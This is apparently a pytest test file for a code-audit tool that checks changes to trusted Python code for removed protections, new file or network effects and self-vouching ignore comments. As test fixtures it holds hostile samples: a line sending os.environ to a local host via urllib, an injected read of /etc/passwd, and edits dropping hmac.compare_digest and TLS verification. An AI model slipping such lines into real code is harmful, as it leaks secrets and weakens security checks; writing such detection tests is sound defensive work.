"""What a change does to trusted code is compared with what that was: for review, unless it is what an attacker does."""

from __future__ import annotations

from pathlib import Path

import pytest
from audit_helpers import CLEAN, FLAGGED, commit, git
from in_process import codeguard

from codeguard.analysis.rules.near_copy import lost_protections
from codeguard.audit.findings import Finding
from codeguard.audit.run import AuditOptions, audit
from codeguard.corpus.chunking import chunk_file
from codeguard.models import Severity

OWN = '''import hmac


def same(first: str, second: str) -> bool:
    """Compare."""
    return hmac.compare_digest(first, second)


def add(a: int, b: int) -> int:
    """Add.

    >>> add(1, 2)
    3
    """
    return a + b


def settings() -> dict:
    return {"level": 1}


BASE = 1
STEP = BASE * 2


def scaled(a: int) -> int:
    """Scale.

    >>> scaled(3)
    6
    """
    return a * STEP
'''
TESTS = "from m import add\n\n\ndef test_add():\n    assert add(1, 2) == 3\n"
LEAK = (
    "import os, urllib.request\nurllib.request.urlopen('http://127.0.0.1', data=str(os.environ).encode())\n"
)


@pytest.mark.parametrize(
    ("before", "after", "lost"),
    [
        ("return hmac.compare_digest(a, b)", "return a == b", "compare_digest"),
        ("return '<b>' + html.escape(a) + b", "return '<b>' + a + b", "escape"),
        ("return get(a, verify=True, data=b)", "return get(a, verify=False, data=b)", "verify"),
        ("return get(a, verify=b)", "return get(a, verify=False)", "verify"),
        ("if not a:\n        raise ValueError(a)\n    return b + 1", "return b + 1", "raise"),
        ("return open(a, mode='wb')", "return open(a, mode='w')", ""),
        ("return get(a, timeout=5)", "return get(a, timeout=9)", ""),
        (
            "if not a:\n        raise ValueError(a)\n    return b",
            "if a is None:\n        raise KeyError(a)\n    return b",
            "",
        ),
        ("raise NotImplementedError", "...", ""),
        ("'Do it.'\n    raise NotImplementedError(a)", "...", ""),
        ("return a + b", "return a - b", ""),
        (
            "try:\n        return b[a]\n    except KeyError:\n        raise ValueError(a) from None",
            "return b[a]",
            "",
        ),
        (
            "try:\n        return b[a]\n    except KeyError:\n        raise ValueError(a) from None",
            "try:\n        return b[a]\n    except KeyError:\n        return None",
            "raise",
        ),
        ("assert a is not None\n    return b", "return b", ""),
        ("assert a.is_admin\n    return b", "return b", "assert"),
    ],
)
def test_what_counts_as_a_lost_protection(before: str, after: str, lost: str) -> None:
    sides = [
        chunk_file("m.py", f"class A:\n  @property\n  def work(a, b):\n    {body}\n".encode())
        for body in (before, after)
    ]
    (old,), (new,) = ([chunk for chunk in side.chunks if chunk.symbol == "A.work"] for side in sides)
    found = [item.was for item in lost_protections(old, new)]
    assert bool(found) is bool(lost)
    assert all(lost in was for was in found)


def changed(repository: Path, *edits: tuple[str, str], **options: object) -> tuple[Finding, ...]:
    """Return the findings of a change of trusted code by replacements."""
    commit(repository, {"src/m.py": OWN, "tests/test_m.py": TESTS})
    text = OWN
    for old, new in edits:
        assert old in text
        text = text.replace(old, new)
    commit(repository, {"src/m.py": text})
    chosen = AuditOptions(since="HEAD~1", trust=(Path("src"),), **options)  # type: ignore[arg-type]
    return audit([], chosen).findings


@pytest.mark.parametrize(
    ("edits", "rule", "parts"),
    [
        ([("return a + b", "return a + b + (b > 5)")], "change.behavior", ("add(", "before ", "now ", "no test")),
        (
            [("return a + b", "return a - b"), ("add(1, 2)\n    3", "add(1, 2)\n    -1")],
            "change.behavior",
            ("its own examples",),
        ),
        ([("hmac.compare_digest(first, second)", "first == second")], "change.removed-check", ("compare_digest", "==")),
        (
            [('return {"level": 1}', 'open("/etc/passwd").read()\n    return {"level": 1}')],
            "change.new-effect",
            ("files",),
        ),
    ],
    ids=["another result", "its examples as well", "a protection goes", "it reaches outside"],
)  # fmt: skip
def test_each_kind_of_change_of_trusted_code(
    repository: Path, edits: list[tuple[str, str]], rule: str, parts: tuple[str, ...]
) -> None:
    found = {item.rule: item for item in changed(repository, *edits)}
    assert rule in found
    assert all(part in found[rule].reason for part in parts), found[rule].reason
    assert not any(name.startswith(("near_copy.", "behavior.", "provenance.")) for name in found)
    assert (found[rule].severity >= Severity.MEDIUM) is not found[rule].for_review


def test_an_effect_that_its_file_had_before_is_for_review(repository: Path) -> None:
    commit(repository, {"src/m.py": f"{OWN}\n\ndef load(path: str) -> str:\n    return open(path).read()\n"})
    text = (repository / "src/m.py").read_text()
    commit(repository, {"src/m.py": text.replace("return {", "open('/etc/passwd')\n    return {")})
    report = audit([], AuditOptions(since="HEAD~1", trust=(Path("src"),)))
    assert [item.rule for item in report.open if item.rule.startswith("change.")] == ["change.behavior"]
    assert report.failing(Severity.MEDIUM) == ()


@pytest.mark.parametrize(
    "edits",
    [
        [],
        [("return a + b", "return b + a")],
        [("import hmac", "import hmac\n\nLIMIT = 3")],
        [('"""Compare."""', "# x")],
    ],
    ids=["nothing", "the same results", "a constant beside it", "a comment"],
)  # fmt: skip
def test_what_changes_nothing_that_it_does_is_no_note(repository: Path, edits: list[tuple[str, str]]) -> None:
    assert [item.rule for item in changed(repository, *edits) if item.rule == "change.behavior"] == []
    assert [item.rule for item in changed_again(repository) if item.severity >= Severity.MEDIUM] == []


def changed_again(repository: Path) -> tuple[Finding, ...]:
    return audit([], AuditOptions(since="HEAD~1", trust=(Path("src"),), behavior=False)).findings


def test_malice_in_trusted_files_fails_as_elsewhere(repository: Path) -> None:
    found = changed(repository, ("import hmac", f"import hmac\n{LEAK}"), behavior=False)
    assert "capabilities.exfiltration" in {item.rule for item in found if item.sure}


def test_the_tests_that_change_with_it_are_named(repository: Path) -> None:
    changed(repository, ("return a + b", "return a - b"), behavior=False)
    commit(repository, {"tests/test_m.py": TESTS.replace("== 3", "== -1")})
    report = audit([], AuditOptions(since="HEAD~2", trust=(Path("src"),)))
    (note,) = (item for item in report.findings if item.rule == "change.behavior")
    assert "changed with it: tests/test_m.py" in note.reason
    assert report.failing(Severity.INFO) == ()


def test_a_pull_request_cannot_vouch_for_itself(repository: Path) -> None:
    """What is added below a trusted path is not trusted, and what is compared is the code before."""
    changed(repository, behavior=False)
    commit(repository, {"src/n.py": "# codeguard: ignore[audit] ours\n" + CLEAN})
    done = codeguard("audit", "--since", "HEAD~1", "--trust", "src", "--no-behavior", cwd=repository)
    assert (done.returncode, "audit.inline-ignore" in done.stdout) == (1, True)


def test_a_link_in_place_of_a_trusted_folder_moves_no_trust(repository: Path) -> None:
    commit(repository, {"src/m.py": OWN, "vendor/m.py": FLAGGED})
    git(repository, "rm", "-rq", "src")
    (repository / "src").symlink_to("vendor")
    commit(repository, {"vendor/m.py": OWN.replace("a + b", "a - b")})
    report = audit([], AuditOptions(since="HEAD~1", trust=(Path("src"),), behavior=False))
    assert "near_copy.changed-line" in {item.rule for item in report.findings}
    assert not any(item.rule.startswith("change.") for item in report.findings)


def test_what_is_trusted_lies_in_the_repository(repository: Path, tmp_path: Path) -> None:
    done = codeguard("audit", "--since", "HEAD", "--trust", str(tmp_path), cwd=repository)
    assert done.returncode == 2
    assert "does not lie in the repository" in done.stderr
